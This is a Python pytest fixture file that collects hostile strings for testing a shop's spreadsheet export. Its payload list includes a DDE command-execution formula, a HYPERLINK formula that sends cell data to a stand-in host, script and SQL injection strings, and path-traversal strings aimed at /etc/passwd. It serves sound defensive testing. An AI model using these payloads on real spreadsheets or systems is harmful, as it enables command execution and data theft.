"""One About, and the texts that have broken spreadsheets elsewhere."""

import os
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from shopkeeper.exports import About

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test/?x="&A1,"click")', "＝1+1", "﹦1+1", "%0A=1", '"=1+1"', " =1+1",
    "http://x.test/a", "-12.5", "+49 170 1234567", "－1", "{=1}", '=DDE("a")', "0001", "1e5", "2025-01-02",
)  # fmt: skip
NAUGHTY = (
    "undefined", "NULL", "null", "None", "true", "\\", "\\\\", "1E+02", "-$1.00", "-1/2", "--1", "-", ".", ",",
    "NaN", "-Infinity", "0xffffffffffffffff", "123456789012345678901234567890123456789", "1 000 000,00",
    ",./;'[]\\-=", '<>?:"{}|_+', "!@#$%^&*()`~", "Ω≈ç√∫˜µ≤≥÷", "'", '"', "''", '""', '\'"\'',
    '"\'\'\'\'"\'"', "<foo val=“bar” />", "田中さんにあげて下さい", "사회과학원 어학연구소", "𠜎𠜱𠝹𠱓𠱸𠲖𠳏",
    "👩🏽", "❤️ 💔", "🇺🇸🇷🇺🇸", "بريطانيا-فرنسا", "\u2007\u2060\u180e", "\u202atest\u202b", "\ufeff=1+1",
    "\u200b=1+1", "Z̶a̡", "\x00", "\x01\x02", "\x1b[31m", "\x7f", "\x85", "\u2028", "\ufffe", "\uffff",
    "_x000D_", "_x0041_", "<script>alert(123)</script>", "</t></is></c><c><f>1+1</f></c>", "&lt;f&gt;", "]]>",
    "<!--", "1;DROP TABLE users", "../../../etc/passwd", "C:\\nul", "CON", "COM1", "mailto:a@b.test",
    "file:///etc/passwd", "\\\\host\\share", "internal:About!A1", "external:c:\\x.xlsx", "a,b", "a;=1+1",
    "a\r\nb", "a\rb", " ", "\u3000", "\xa0=1", "-2+3+cmd|' /C calc'!A0", "@import", "%s%d", "{0}", "{title}",
    "${7*7}", "女装", "连衣裙（春）",
)  # fmt: skip


def real_naughty_strings() -> tuple[str, ...]:
    """The whole Big List of Naughty Strings, where the folder of real data holds it."""
    folder = os.environ.get("SHOPKEEPER_REAL_DATA")
    files = sorted(Path(folder).rglob("blns.txt")) if folder else []
    return tuple(line for file in files for line in file.read_text("utf-8").split("\n") if line and line[0] != "#")


@pytest.fixture(scope="session")
def naughty() -> tuple[str, ...]:
    assert len(PAYLOADS) == 23
    return tuple(dict.fromkeys((*PAYLOADS, *NAUGHTY, *real_naughty_strings())))


@pytest.fixture(scope="session")
def about() -> About:
    return About(
        title="Retention",
        rows=3,
        filters=(("Bought in category", "女装, =1+1"), ("Acquired in channel", "app")),
        definitions=(("Exact", "The customer bought in period k itself."),),
        as_of=date(2026, 10, 21),
        version="20261122T185959Z-1a2b3c",
        created_at=datetime(2026, 11, 22, 18, 59, 59, tzinfo=UTC),
        shop="山茶 Camellia",
        currency="CNY",
        timezone="Asia/Shanghai",
        rejected_rows=1234,
        identified_order_share=0.875,
    )
